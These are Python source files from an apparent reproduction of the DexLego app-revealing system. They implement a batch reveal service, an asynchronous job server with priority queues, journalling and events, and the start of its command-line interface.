    EVENT_CANCELLED,
    EVENT_CLUSTER,
    EVENT_DEGRADED,
    EVENT_DONE,
    EVENT_FAILED,
    EVENT_INDEX,
    EVENT_STAGE,
    EVENT_STARTED,
    EVENT_SUBMITTED,
    EVENT_WAVE,
    TERMINAL_EVENTS,
    EventBus,
    EventStream,
    JobEvent,
)
from repro.service.jobs import (
    HEARTBEAT_CANCELLED,
    HEARTBEAT_LOST,
    HEARTBEAT_OK,
    LEASE_TTL_DEFAULT_S,
    PRIORITIES,
    PRIORITY_HIGH,
    PRIORITY_LOW,
    PRIORITY_NORMAL,
    JobHandle,
    JobState,
    JobStore,
    resolve_priority,
)
from repro.service.retry import (
    NO_RETRY,
    Backoff,
    RetryPolicy,
    call_with_retries,
)
from repro.service.server import QueueFull, RevealServer
from repro.service.cache import (
    RevealCache,
    apk_content_key,
    pipeline_config_key,
    reveal_cache_key,
)
from repro.service.outcomes import (
    ALL_STATUSES,
    CACHEABLE_STATUSES,
    STATUS_BUDGET_EXCEEDED,
    STATUS_CRASHED,
    STATUS_ERROR,
    STATUS_OK,
    STATUS_VERIFY_FAILED,
    RevealOutcome,
    classify_result,
)
from repro.service.stats import BatchReport, percentile

__all__ = [
    "ALL_EVENTS",
    "ALL_STATUSES",
    "ARTIFACT_COLLECTION",
    "ARTIFACT_REVEALED_APK",
    "ARTIFACT_REVEALED_DEX",
    "ArtifactStore",
    "BACKENDS",
    "BatchReport",
    "BatchRevealService",
    "CACHEABLE_STATUSES",
    "Backoff",
    "EVENT_CACHE_HIT",
    "EVENT_CANCELLED",
    "EVENT_CLUSTER",
    "EVENT_DEGRADED",
    "EVENT_DONE",
    "EVENT_FAILED",
    "EVENT_INDEX",
    "EVENT_STAGE",
    "EVENT_STARTED",
    "EVENT_SUBMITTED",
    "EVENT_WAVE",
    "EventBus",
    "EventStream",
    "GatewayClient",
    "GatewayError",
    "HEARTBEAT_CANCELLED",
    "HEARTBEAT_LOST",
    "HEARTBEAT_OK",
    "JobEvent",
    "JobHandle",
    "JobState",
    "JobStore",
    "LEASE_TTL_DEFAULT_S",
    "NO_RETRY",
    "PRIORITIES",
    "PRIORITY_HIGH",
    "PRIORITY_LOW",
    "PRIORITY_NORMAL",
    "QueueFull",
    "RemoteJobHandle",
    "RetryPolicy",
    "RevealCache",
    "RevealGateway",
    "RevealJob",
    "RevealOutcome",
    "RevealServer",
    "RevealWorker",
    "STATUS_BUDGET_EXCEEDED",
    "STATUS_CRASHED",
    "STATUS_ERROR",
    "STATUS_OK",
    "STATUS_VERIFY_FAILED",
    "SubmitAPI",
    "TERMINAL_EVENTS",
    "WorkerReport",
    "apk_content_key",
    "artifact_digest",
    "call_with_retries",
    "classify_result",
    "default_worker_count",
    "is_artifact_digest",
    "percentile",
    "pipeline_config_key",
    "resolve_priority",
    "reveal_cache_key",
    "set_default_workers",
]
