"""Batch reveal service: DexLego at corpus scale.

Layer above :mod:`repro.core`: where the core pipeline reveals *one*
application, this package reveals *corpora* — the consumer posture of
the paper's evaluation (markets, app stores, analysis fleets):

* :class:`~repro.service.batch.BatchRevealService` — worker-pool
  execution (thread / process / serial) with per-app crash isolation
* :class:`~repro.service.cache.RevealCache` — content-addressed result
  cache keyed on DEX checksum × pipeline-config hash
* :class:`~repro.service.outcomes.RevealOutcome` — uniform per-app
  records (ok / crashed / budget-exceeded / verify-failed / error)
* :class:`~repro.service.stats.BatchReport` — aggregate throughput
  (apps/sec, cache hit rate, p50/p95 latency)
* ``python -m repro.service`` — the batch CLI
"""

from repro.service.batch import (
    BACKENDS,
    BatchRevealService,
    RevealJob,
    default_worker_count,
    set_default_workers,
)
from repro.service.cache import (
    RevealCache,
    apk_content_key,
    pipeline_config_key,
    reveal_cache_key,
)
from repro.service.outcomes import (
    ALL_STATUSES,
    CACHEABLE_STATUSES,
    STATUS_BUDGET_EXCEEDED,
    STATUS_CRASHED,
    STATUS_ERROR,
    STATUS_OK,
    STATUS_VERIFY_FAILED,
    RevealOutcome,
    classify_result,
)
from repro.service.stats import BatchReport, percentile

__all__ = [
    "ALL_STATUSES",
    "BACKENDS",
    "BatchReport",
    "BatchRevealService",
    "CACHEABLE_STATUSES",
    "RevealCache",
    "RevealJob",
    "RevealOutcome",
    "STATUS_BUDGET_EXCEEDED",
    "STATUS_CRASHED",
    "STATUS_ERROR",
    "STATUS_OK",
    "STATUS_VERIFY_FAILED",
    "apk_content_key",
    "classify_result",
    "default_worker_count",
    "percentile",
    "pipeline_config_key",
    "reveal_cache_key",
    "set_default_workers",
]
