"""RevealServer: a job-oriented, asynchronous front end for reveals.

:meth:`~repro.service.batch.BatchRevealService.reveal_batch` is
call-and-wait: hand over a corpus, block, get a report.  Production
consumers (market scanners, CI queues, analyst tooling) need the dual
posture — submit work incrementally, watch it progress, prioritise the
sample an analyst is waiting on over the nightly backfill, cancel what
stopped mattering, and survive a restart without losing the queue.

* :meth:`RevealServer.submit` enqueues one
  :class:`~repro.service.batch.RevealJob` into a priority lane
  (``high`` / ``normal`` / ``low``) and returns a
  :class:`~repro.service.jobs.JobHandle` immediately.  A bounded queue
  (``max_pending``) applies backpressure: a full queue rejects with
  :class:`QueueFull`, or blocks when ``block=True``.
* A pool of worker threads pops jobs best-lane-first (FIFO within a
  lane), runs them through the owning
  :class:`~repro.service.batch.BatchRevealService` — result cache,
  crash isolation and outcome classification included — and resolves
  each handle ``queued → running → done/failed``.
* :meth:`RevealServer.cancel` on a queued job resolves it
  ``cancelled`` without ever starting its pipeline.
* Every transition, pipeline stage, exploration wave, cache hit and
  corpus-index dedup summary
  flows through one :class:`~repro.service.events.EventBus` —
  consumable as an iterator (:meth:`RevealServer.events`) or an
  observer callback (:meth:`RevealServer.add_observer`).
* With a :class:`~repro.service.jobs.JobStore`, submissions and state
  changes are journalled to disk; a server restarted against the same
  store re-queues the jobs a killed predecessor still owed, the way
  ``resume_exploration()`` resumes an interrupted exploration.
"""

from __future__ import annotations

import heapq
import threading
import time
import uuid

from repro.service.api import SubmitAPI
from repro.service.batch import BatchRevealService, RevealJob
from repro.service.events import (
    EVENT_CACHE_HIT,
    EVENT_CANCELLED,
    EVENT_DEGRADED,
    EVENT_DONE,
    EVENT_CLUSTER,
    EVENT_FAILED,
    EVENT_INDEX,
    EVENT_STAGE,
    EVENT_STARTED,
    EVENT_SUBMITTED,
    EVENT_WAVE,
    EventBus,
    EventStream,
)
from repro.service.jobs import (
    PRIORITY_NORMAL,
    JobHandle,
    JobState,
    JobStore,
    resolve_priority,
)
from repro.service.outcomes import (
    STATUS_ERROR,
    STATUS_VERIFY_FAILED,
    RevealOutcome,
)

#: Statuses that resolve a job ``failed`` rather than ``done`` — the
#: same pair the batch CLI treats as hard failures.
FAILED_STATUSES = (STATUS_ERROR, STATUS_VERIFY_FAILED)


class QueueFull(RuntimeError):
    """Raised by ``submit`` when the bounded queue is at ``max_pending``."""


class RevealServer(SubmitAPI):
    """Async job server over a :class:`BatchRevealService`.

    ``service`` supplies the pipeline configuration, result cache and
    per-job execution; construct one explicitly to share its cache with
    other consumers, or pass service kwargs (``config=``,
    ``cache_dir=``, ``run_budget=``...) and the server builds its own.

    ``workers`` threads execute jobs (default: the service's worker
    count).  ``max_pending`` bounds the queue; ``None`` is unbounded.
    ``store`` (a path or :class:`JobStore`) turns on the on-disk
    journal and restart recovery.  ``autostart=False`` delays the
    worker pool until :meth:`start` — useful to stage submissions, and
    how tests simulate a killed server.
    """

    def __init__(
        self,
        service: BatchRevealService | None = None,
        *,
        workers: int | None = None,
        max_pending: int | None = None,
        store: JobStore | str | None = None,
        autostart: bool = True,
        observers=None,
        keep_results: bool = True,
        **service_kwargs,
    ) -> None:
        if service is not None and service_kwargs:
            raise ValueError(
                f"pass either service or service kwargs, not both "
                f"(got {sorted(service_kwargs)})"
            )
        if max_pending is not None and max_pending < 1:
            raise ValueError(f"max_pending must be >= 1, got {max_pending}")
        self.service = service if service is not None \
            else BatchRevealService(**service_kwargs)
        #: With ``keep_results=False`` terminal outcomes are stripped of
        #: their live result and serialised APK before landing on the
        #: handle — a lingering server (the ``serve`` CLI) would
        #: otherwise retain one revealed-APK-sized object per completed
        #: job forever.  Consumers then read artefacts from the cache
        #: or the journal, not the handle.
        self.keep_results = keep_results
        self.workers = max(1, workers if workers is not None
                           else self.service.workers)
        self.max_pending = max_pending
        self.bus = EventBus()
        # Registered before any publish (store resume included), so a
        # constructor-supplied observer sees the whole stream.
        for callback in observers or ():
            self.bus.add_observer(callback)
        self.store = JobStore(store) if isinstance(store, str) else store
        if self.store is not None:
            store_ref = self.store
            self.bus.add_observer(
                lambda event: store_ref.append_event(event.to_dict()))
        self._cv = threading.Condition()
        self._heap: list[tuple[int, int, str]] = []  # (lane, seq, job_id)
        self._seq = 0
        self._queued = 0
        self._running = 0
        self._handles: dict[str, JobHandle] = {}
        self._jobs: dict[str, RevealJob] = {}
        self._cache_keys: dict[str, str] = {}  # precomputed key hints
        self._threads: list[threading.Thread] = []
        self._started = False
        self._stop = False
        self._closed = False
        if self.store is not None:
            self._resume_from_store()
        if autostart:
            self.start()

    # -- lifecycle ----------------------------------------------------------

    def start(self) -> "RevealServer":
        """Spin up the worker pool (idempotent)."""
        with self._cv:
            if self._started or self._closed:
                return self
            self._started = True
        for index in range(self.workers):
            thread = threading.Thread(
                target=self._worker, name=f"reveal-server-{index}",
                daemon=True,
            )
            self._threads.append(thread)
            thread.start()
        return self

    def __enter__(self) -> "RevealServer":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close(drain=exc_type is None)

    def close(self, drain: bool = True) -> None:
        """Shut down: finish the queue (``drain=True``) or cancel it.

        Either way every worker exits, the store is consistent, and the
        event bus closes so ``events()`` iterators end.  Idempotent.
        """
        with self._cv:
            if self._closed:
                return
        if drain and not self._started:
            # Draining owes the queued jobs a worker pool.
            self.start()
        if not drain:
            for handle in self.pending_handles():
                self.cancel(handle.job_id)
        with self._cv:
            if drain:
                while self._queued or self._running:
                    self._cv.wait()
            self._stop = True
            self._closed = True
            self._cv.notify_all()
        for thread in self._threads:
            thread.join()
        self.bus.close()

    # -- submission ---------------------------------------------------------

    def submit(
        self,
        job: RevealJob | object,
        *,
        priority: int | str = PRIORITY_NORMAL,
        job_id: str | None = None,
        block: bool = False,
        timeout: float | None = None,
        cache_key: str | None = None,
    ) -> JobHandle:
        """Enqueue one job; returns its handle immediately.

        ``priority`` is a lane (``"high"``/``"normal"``/``"low"`` or
        the matching int); within a lane jobs run in submission order.
        When the queue holds ``max_pending`` jobs, raises
        :class:`QueueFull` — or, with ``block=True``, waits up to
        ``timeout`` seconds for space.  ``cache_key`` is an optional
        precomputed result-cache key (``""`` meaning uncacheable) so a
        caller that already content-hashed the APK — the
        ``reveal_batch`` prefilter — doesn't pay for it twice.
        """
        job = BatchRevealService._coerce(job)
        lane = resolve_priority(priority)
        deadline = None if timeout is None else time.monotonic() + timeout
        with self._cv:
            if self._closed:
                raise RuntimeError("server is closed")
            while (self.max_pending is not None
                   and self._queued >= self.max_pending):
                if not block:
                    raise QueueFull(
                        f"queue full: {self._queued} pending >= "
                        f"max_pending={self.max_pending}"
                    )
                remaining = (None if deadline is None
                             else deadline - time.monotonic())
                if remaining is not None and remaining <= 0:
                    raise QueueFull(
                        f"queue still full after {timeout}s "
                        f"(max_pending={self.max_pending})"
                    )
                if not self._cv.wait(remaining):
                    raise QueueFull(
                        f"queue still full after {timeout}s "
                        f"(max_pending={self.max_pending})"
                    )
                if self._closed:
                    raise RuntimeError("server is closed")
            job_id = job_id or f"job-{uuid.uuid4().hex[:10]}"
            if job_id in self._handles:
                raise ValueError(f"duplicate job_id {job_id!r}")
            handle = JobHandle(job_id, job.app_id, lane)
            self._handles[job_id] = handle
            self._jobs[job_id] = job
            if cache_key is not None:
                self._cache_keys[job_id] = cache_key
            self._queued += 1  # slot reserved before the heap push below
        if self.store is not None:
            try:
                self.store.save(self.store.make_record(
                    job_id=job_id, app_id=job.app_id, apk=job.apk,
                    priority=lane, collect_only=job.collect_only,
                    cache_salt=job.cache_salt, device=job.device,
                    submitted_at=handle.submitted_at,
                ))
            except OSError:
                # The reserved slot must not leak (close(drain=True)
                # would wait on it forever); unwind and let the caller
                # see the journal failure.
                with self._cv:
                    self._handles.pop(job_id, None)
                    self._jobs.pop(job_id, None)
                    self._cache_keys.pop(job_id, None)
                    self._queued -= 1
                    self._cv.notify_all()
                raise
        return self._announce(job_id, handle, lane,
                              payload={"priority": lane})

    def _announce(self, job_id: str, handle: JobHandle, lane: int,
                  payload: dict) -> JobHandle:
        """Publish ``submitted`` and make the job poppable.

        The event goes out before the heap push, so per-job order is
        submitted → started even against an idle worker pool.  A
        cancel() that raced in before the announcement deferred its
        ``cancelled`` event to us (lifecycle order beats wall-clock
        order); such a job never reaches the heap.
        """
        self.bus.publish(EVENT_SUBMITTED, job_id, handle.app_id,
                         payload=payload)
        with self._cv:
            handle._announced = True
            cancelled = handle.state == JobState.CANCELLED
            if not cancelled:
                heapq.heappush(self._heap, (lane, self._next_seq(), job_id))
                # notify_all, not notify: the condition is shared with
                # wait_idle/close waiters and blocked submitters, and a
                # single wakeup landing on one of those would leave the
                # job enqueued with every worker still asleep.
                self._cv.notify_all()
        if cancelled:
            self._finish_cancel(job_id, handle)
        return handle

    def _next_seq(self) -> int:
        self._seq += 1
        return self._seq

    @staticmethod
    def _transition(handle: JobHandle, target: str) -> None:
        """State change enforced against :data:`JobState.TRANSITIONS`
        (caller holds the queue lock)."""
        if not JobState.can_transition(handle.state, target):
            raise RuntimeError(
                f"illegal job transition {handle.state!r} -> {target!r} "
                f"for {handle.job_id}"
            )
        handle.state = target

    # -- queue introspection ------------------------------------------------

    def poll(self, job_id: str) -> JobHandle:
        """The handle for one job id (KeyError when unknown)."""
        with self._cv:
            return self._handles[job_id]

    def handles(self) -> list[JobHandle]:
        """Every handle this server knows, in submission order."""
        with self._cv:
            return list(self._handles.values())

    def pending_handles(self) -> list[JobHandle]:
        with self._cv:
            return [h for h in self._handles.values()
                    if h.state == JobState.QUEUED]

    def status_counts(self) -> dict[str, int]:
        counts = {state: 0 for state in JobState.ALL}
        for handle in self.handles():
            counts[handle.state] += 1
        return counts

    # -- waiting ------------------------------------------------------------
    # ``submit_many`` / ``await_many`` / ``await_job`` (and the
    # deprecated ``submit_all`` / ``await_all`` shims) come from
    # :class:`SubmitAPI`.

    def wait_idle(self, timeout: float | None = None) -> bool:
        """Block until nothing is queued or running; False on timeout."""
        deadline = None if timeout is None else time.monotonic() + timeout
        with self._cv:
            while self._queued or self._running:
                remaining = (None if deadline is None
                             else deadline - time.monotonic())
                if remaining is not None and remaining <= 0:
                    return False
                self._cv.wait(remaining)
            return True

    # -- cancellation -------------------------------------------------------

    def cancel(self, job_id: str) -> bool:
        """Cancel a queued job; its pipeline never starts.

        Returns False when the job is already running or terminal —
        in-flight work is never killed.
        """
        with self._cv:
            handle = self._handles.get(job_id)
            if handle is None or handle.state != JobState.QUEUED:
                return False
            self._transition(handle, JobState.CANCELLED)
            handle.finished_at = time.time()
            self._queued -= 1
            self._jobs.pop(job_id, None)  # the APK is no longer needed
            self._cache_keys.pop(job_id, None)
            announced = handle._announced
            self._cv.notify_all()
        if not announced:
            # submit() has not published ``submitted`` yet; it will see
            # the cancelled state and emit both events in order.
            return True
        self._finish_cancel(job_id, handle)
        return True

    def _finish_cancel(self, job_id: str, handle: JobHandle) -> None:
        self._store_update(job_id, state=JobState.CANCELLED,
                           finished_at=handle.finished_at)
        self.bus.publish(EVENT_CANCELLED, job_id, handle.app_id)
        handle._mark_terminal()

    def _store_update(self, job_id: str, **fields) -> None:
        """Best-effort journal update: once a job is in memory, a
        failing disk must not kill its worker or strand its waiters."""
        if self.store is None:
            return
        try:
            self.store.update(job_id, **fields)
        except OSError:
            pass

    # -- events -------------------------------------------------------------

    def events(self) -> EventStream:
        """Subscribe to the unified stream (iterator; ends on close)."""
        return self.bus.subscribe()

    def add_observer(self, callback) -> None:
        self.bus.add_observer(callback)

    # -- store resume -------------------------------------------------------

    def _resume_from_store(self) -> None:
        """Re-queue the jobs a killed predecessor still owed."""
        for record in self.store.pending_records():
            self._submit_record(record, resumed=True)

    def sync_store(self, records: list[dict] | None = None) -> int:
        """Pick up queued records other processes appended to the store
        (the ``submit`` CLI); returns how many jobs were adopted.

        ``records`` lets a caller that already read the journal (the
        ``serve`` poll loop) share one ``load_all`` per tick.
        """
        if self.store is None:
            return 0
        if records is None:
            records = self.store.load_all()
        adopted = 0
        for record in records:
            if record.get("state") != JobState.QUEUED:
                continue
            with self._cv:
                known = record["job_id"] in self._handles
            if not known and self._submit_record(record, resumed=False):
                adopted += 1
        return adopted

    def _submit_record(self, record: dict, resumed: bool) -> bool:
        """Adopt one journalled record; False when it cannot run.

        An undecodable record is marked ``failed`` in the journal —
        costing that job, not the queue — so pollers never count it as
        fresh work again (a lingering server would otherwise spin on
        it forever).
        """
        job_id = record.get("job_id", "")
        try:
            job = RevealJob(
                app_id=record["app_id"],
                apk=JobStore.decode_apk(record["apk_b64"]),
                device=JobStore.decode_device(record.get("device")),
                collect_only=record.get("collect_only", False),
                cache_salt=record.get("cache_salt", ""),
            )
            lane = resolve_priority(record.get("priority", PRIORITY_NORMAL))
        except Exception:
            if job_id:
                self._store_update(job_id, state=JobState.FAILED,
                                   error="unreadable job record")
            return False
        with self._cv:
            if job_id in self._handles:
                return False
            handle = JobHandle(job_id, job.app_id, lane,
                               submitted_at=record.get("submitted_at"))
            self._handles[job_id] = handle
            self._jobs[job_id] = job
            self._queued += 1
        if record.get("state") != JobState.QUEUED:
            # A job its dead server had already started re-runs whole.
            self._store_update(job_id, state=JobState.QUEUED,
                               started_at=None)
        self._announce(job_id, handle, lane,
                       payload={"priority": lane, "resumed": resumed})
        return True

    # -- worker loop --------------------------------------------------------

    def _worker(self) -> None:
        while True:
            with self._cv:
                while not self._stop and not self._heap:
                    self._cv.wait()
                if not self._heap:
                    return  # stopping and nothing left to pop
                _lane, _seq, job_id = heapq.heappop(self._heap)
                handle = self._handles[job_id]
                if handle.state != JobState.QUEUED:
                    continue  # cancelled while queued; slot already freed
                self._transition(handle, JobState.RUNNING)
                handle.started_at = time.time()
                self._queued -= 1
                self._running += 1
                self._cv.notify_all()  # wake backpressure waiters
            try:
                self._run_one(job_id, handle)
            finally:
                with self._cv:
                    self._running -= 1
                    self._cv.notify_all()

    def _run_one(self, job_id: str, handle: JobHandle) -> None:
        job = self._jobs[job_id]
        self._store_update(job_id, state=JobState.RUNNING,
                           started_at=handle.started_at)
        self.bus.publish(EVENT_STARTED, job_id, job.app_id,
                         payload={"queue_wait_s": handle.queue_wait_s})
        try:
            outcome = self._execute(job_id, job)
        except Exception as exc:  # _run_job never raises; belt and braces
            outcome = RevealOutcome(
                app_id=job.app_id,
                status=STATUS_ERROR,
                error=f"{type(exc).__name__}: {exc}",
            )
        outcome.queue_wait_s = handle.queue_wait_s
        if outcome.index_stats:
            # Dedup accounting rides the stream before the terminal
            # event, so per-job lifecycle order stays started → index →
            # done and corpus dashboards never race the outcome.
            self.bus.publish(EVENT_INDEX, job_id, job.app_id,
                             payload=dict(outcome.index_stats))
        if outcome.cluster_stats:
            # Same pre-terminal placement for the labeling verdict:
            # started → index → cluster → done.
            self.bus.publish(EVENT_CLUSTER, job_id, job.app_id,
                             payload=dict(outcome.cluster_stats))
        if outcome.degraded:
            # Degradations also ride pre-terminal, so a dashboard sees
            # what this reveal bypassed before it sees the outcome.
            self.bus.publish(EVENT_DEGRADED, job_id, job.app_id,
                             payload={"subsystems":
                                      list(outcome.degraded)})
        if not self.keep_results:
            outcome.result = None
            outcome.revealed_apk_bytes = None
        failed = outcome.status in FAILED_STATUSES
        with self._cv:
            self._transition(handle,
                             JobState.FAILED if failed else JobState.DONE)
            handle.finished_at = time.time()
            handle.outcome = outcome
            handle.error = outcome.error
            # Release the RevealJob (and its APK): a lingering server
            # must not retain one APK-sized object per completed job.
            self._jobs.pop(job_id, None)
        self._store_update(
            job_id,
            state=handle.state,
            finished_at=handle.finished_at,
            outcome=outcome.to_summary(),
            error=outcome.error,
        )
        self.bus.publish(
            EVENT_FAILED if failed else EVENT_DONE,
            job_id, job.app_id, payload=outcome.to_summary(),
        )
        handle._mark_terminal()

    def _execute(self, job_id: str, job: RevealJob) -> RevealOutcome:
        """One job through the service: cache, pipeline, events."""
        service = self.service

        def on_stage(event) -> None:
            self.bus.publish(EVENT_STAGE, job_id, job.app_id, payload={
                "stage": event.stage,
                "duration_s": event.duration_s,
                "ok": event.ok,
                "error": event.error,
            })

        def on_wave(snapshot: dict) -> None:
            self.bus.publish(EVENT_WAVE, job_id, job.app_id,
                             payload=dict(snapshot))

        with self._cv:
            key = self._cache_keys.pop(job_id, None)
        if key is None:
            key = service.job_cache_key(job) if job.cacheable else ""

        def compute() -> RevealOutcome:
            return service._run_job(job, key, observer=on_stage,
                                    wave_observer=on_wave)

        if key:
            outcome, hit = service.cache.get_or_compute(key, compute)
            if hit:
                outcome.app_id = job.app_id
                self.bus.publish(EVENT_CACHE_HIT, job_id, job.app_id,
                                 payload={"cache_key": key})
        else:
            outcome = compute()
        return outcome
