"""``python -m repro.service`` — batch reveal and the job server CLI.

Usage::

    python -m repro.service reveal-batch                      # F-Droid corpus
    python -m repro.service reveal-batch --corpus aosp --workers 4
    python -m repro.service reveal-batch --cache-dir /tmp/dexlego-cache
    python -m repro.service reassemble /path/to/archive --out revealed.dex

    # The job server, over a shared on-disk JobStore:
    python -m repro.service submit --store /tmp/q --corpus fdroid --limit 2
    python -m repro.service serve  --store /tmp/q --workers 2
    python -m repro.service status --store /tmp/q
    python -m repro.service watch  --store /tmp/q --follow

    # The HTTP gateway and the worker fleet over the same store:
    python -m repro.service gateway --store /tmp/q --port 8080
    python -m repro.service worker  --store /tmp/q --linger 60
    python -m repro.service submit  --url http://127.0.0.1:8080 --limit 2

    # The corpus index (cross-app method dedup):
    python -m repro.service reveal-batch --index-dir /tmp/idx
    python -m repro.service index build --index-dir /tmp/idx /path/to/archive
    python -m repro.service index query --index-dir /tmp/idx --signature SIG
    python -m repro.service index stats --index-dir /tmp/idx

    # Family clustering and auto-labeling over the index:
    python -m repro.service reveal-batch --cluster-dir /tmp/fam
    python -m repro.service cluster build --index-dir /tmp/idx \
        --cluster-dir /tmp/fam
    python -m repro.service cluster label --cluster-dir /tmp/fam /path/to/archive
    python -m repro.service cluster neighbors --cluster-dir /tmp/fam --digest D
    python -m repro.service cluster stats --cluster-dir /tmp/fam

``reveal-batch`` builds the requested benchsuite corpus, runs it
through a :class:`~repro.service.batch.BatchRevealService`, prints one
row per application (status, cache provenance, latency, dump size) and
the aggregate throughput block.  Exit status is 0 when every app
resolved to a deterministic outcome (``ok``/``crashed``/
``budget-exceeded``), and 1 when any app errored or failed
verification **or** no app at all resolved ``ok`` (an all-failure
report must not look like success to a calling script — mirroring the
``reassemble`` error path).

``reassemble`` runs only the offline half of the pipeline
(:func:`~repro.core.pipeline.reveal_from_archive`) over a directory of
saved collection files — re-running reassembly after a reassembler fix
without re-driving the application — and writes the verified DEX to
``--out``.

The server subcommands speak through a
:class:`~repro.service.jobs.JobStore` directory, so they compose across
processes: ``submit`` journals queued job records (no server needed),
``serve`` boots a :class:`~repro.service.server.RevealServer` against
the store — adopting whatever is queued, including jobs a killed
server still owed — drains it and exits cleanly (``--linger`` keeps it
polling for new submissions), ``status`` renders the journal, and
``watch`` prints the unified event stream (``--follow`` tails it).
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
import uuid

from repro.core.exploration import (
    ALL_STRATEGIES,
    BACKEND_THREAD,
    EXPLORE_BACKENDS,
    STRATEGY_BFS,
)
from repro.service.batch import BACKENDS, BatchRevealService, RevealJob
from repro.service.cli_contract import (
    EXIT_OK,
    EXIT_USAGE,
    exit_for_failures,
    failure,
    usage_error,
)
from repro.service.jobs import (
    LEASE_TTL_DEFAULT_S,
    PRIORITIES,
    STORE_FORMAT_VERSION,
    JobHandle,
    JobState,
    JobStore,
    resolve_priority,
)
from repro.service.outcomes import STATUS_ERROR, STATUS_VERIFY_FAILED

CORPORA = ("fdroid", "aosp", "launch", "packed", "droidbench")


def build_corpus_jobs(corpus: str, limit: int | None = None) -> list[RevealJob]:
    """Materialise one named benchsuite corpus as reveal jobs.

    ``limit`` caps *generation*, not just the returned list, for the
    spec-driven corpora: ``--limit 1`` must not pay for synthesising
    the four apps it will never reveal.
    """
    jobs: list[RevealJob] = []
    if corpus == "fdroid":
        from repro.benchsuite.fdroid_apps import (
            FDROID_APP_SPECS,
            build_fdroid_app,
        )

        specs = FDROID_APP_SPECS if limit is None else FDROID_APP_SPECS[:limit]
        jobs = [RevealJob(pkg, build_fdroid_app(pkg).apk)
                for pkg, *_ in specs]
    elif corpus == "aosp":
        from repro.benchsuite.aosp_apps import AOSP_APP_SPECS, build_aosp_app

        specs = AOSP_APP_SPECS if limit is None else AOSP_APP_SPECS[:limit]
        jobs = [RevealJob(name, build_aosp_app(name).apk)
                for name, *_ in specs]
    elif corpus == "launch":
        from repro.benchsuite import all_launch_apps

        jobs = [RevealJob(app.package, app.apk) for app in all_launch_apps()]
    elif corpus == "packed":
        from repro.benchsuite import all_market_apps

        jobs = [RevealJob(app.package, app.packed_apk)
                for app in all_market_apps()]
    elif corpus == "droidbench":
        from repro.benchsuite import droidbench_samples

        jobs = [
            RevealJob(sample.name, sample.build_apk(), device=sample.device)
            for sample in droidbench_samples()
        ]
    else:
        raise ValueError(f"unknown corpus {corpus!r}; pick one of {CORPORA}")
    if limit is not None:
        jobs = jobs[:limit]
    return jobs


def _add_pipeline_flags(parser: argparse.ArgumentParser) -> None:
    """Pipeline knobs shared by ``reveal-batch`` and ``serve``."""
    parser.add_argument("--cache-dir", default=None,
                        help="persistent result-cache directory")
    parser.add_argument("--index-dir", default=None,
                        help="persistent corpus-index directory: method "
                             "bodies other apps already revealed are "
                             "replayed instead of re-emitted, and every "
                             "reveal registers its methods back")
    parser.add_argument("--cluster-dir", default=None,
                        help="persistent cluster-store directory: every "
                             "reveal is auto-labeled with its family and "
                             "nearest-known-method evidence, then absorbed "
                             "for future labeling")
    parser.add_argument("--force-execution", action="store_true",
                        help="enable the code coverage improvement module")
    parser.add_argument("--budget", type=int, default=2_000_000,
                        help="interpreter step budget per run")
    parser.add_argument("--strategy", choices=ALL_STRATEGIES,
                        default=STRATEGY_BFS,
                        help="force-execution frontier order "
                             "(default: bfs)")
    parser.add_argument("--max-paths", type=int, default=None,
                        help="total replay budget for force execution "
                             "(default: unbounded)")
    parser.add_argument("--path-budget", type=int, default=None,
                        help="interpreter step budget per replay "
                             "(default: same as --budget)")
    parser.add_argument("--explore-workers", type=int, default=1,
                        help="pool width for replaying one wave of "
                             "path files (default: 1)")
    parser.add_argument("--explore-backend", choices=EXPLORE_BACKENDS,
                        default=BACKEND_THREAD,
                        help="how a wave of replays executes: serial, "
                             "thread or process workers — results are "
                             "bit-identical either way (default: thread)")


def registry_warmer():
    """A once-per-app native-library warmer over journalled records.

    Generated corpus apps register their native libraries as a
    process-global side effect of generation; journalled APK bytes
    carry only the library *names*.  The returned callable regenerates
    each app named in a record's ``meta.corpus`` once, so the process
    executing it (``serve`` loop or fleet ``worker``) can run its
    native methods — per-app for the spec-driven corpora, whole-corpus
    otherwise.
    """
    warmed: set[tuple[str, str]] = set()

    def warm(records: list[dict]) -> None:
        for record in records:
            corpus = record.get("meta", {}).get("corpus")
            key = (corpus or "", record.get("app_id", ""))
            if not corpus or key in warmed:
                continue
            warmed.add(key)
            try:
                if corpus == "fdroid":
                    from repro.benchsuite.fdroid_apps import build_fdroid_app

                    build_fdroid_app(record["app_id"])
                elif corpus == "aosp":
                    from repro.benchsuite.aosp_apps import build_aosp_app

                    build_aosp_app(record["app_id"])
                elif (corpus, "") not in warmed:
                    warmed.add((corpus, ""))
                    build_corpus_jobs(corpus)
            except Exception:
                pass  # unknown corpus/app: its jobs run without natives

    return warm


def _service_from(args, backend: str | None = None) -> BatchRevealService:
    return BatchRevealService(
        use_force_execution=args.force_execution,
        run_budget=args.budget,
        exploration_strategy=args.strategy,
        max_paths=args.max_paths,
        path_budget=args.path_budget,
        explore_workers=args.explore_workers,
        explore_backend=args.explore_backend,
        index_dir=args.index_dir,
        cluster_dir=args.cluster_dir,
        workers=args.workers,
        backend=backend or getattr(args, "backend", "thread"),
        cache_dir=args.cache_dir,
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m repro.service",
        description="Corpus-scale DexLego: batch reveal and the job server.",
    )
    sub = parser.add_subparsers(dest="command")
    batch = sub.add_parser(
        "reveal-batch",
        help="reveal a benchsuite corpus through the batch service",
    )
    batch.add_argument("--corpus", choices=CORPORA, default="fdroid",
                       help="which benchsuite corpus to reveal")
    batch.add_argument("--limit", type=int, default=None,
                       help="cap the corpus at the first N apps")
    batch.add_argument("--workers", type=int, default=2,
                       help="worker-pool size (default: 2)")
    batch.add_argument("--backend", choices=BACKENDS, default="thread",
                       help="pool flavour (default: thread)")
    _add_pipeline_flags(batch)
    batch.add_argument("--json", action="store_true",
                       help="emit machine-readable JSON instead of tables")
    reasm = sub.add_parser(
        "reassemble",
        help="offline reassembly over saved collection files (no drive)",
    )
    reasm.add_argument("archive",
                       help="directory of collection files saved by the "
                            "collect stage (class_data.json, bytecode.json, ...)")
    reasm.add_argument("--out", default=None,
                       help="path for the emitted DEX "
                            "(default: <archive>/reassembled.dex)")
    reasm.add_argument("--json", action="store_true",
                       help="emit machine-readable JSON instead of text")

    serve = sub.add_parser(
        "serve",
        help="boot a reveal server against a job store and drain it",
    )
    serve.add_argument("--store", required=True,
                       help="job-store directory (shared with submit/status)")
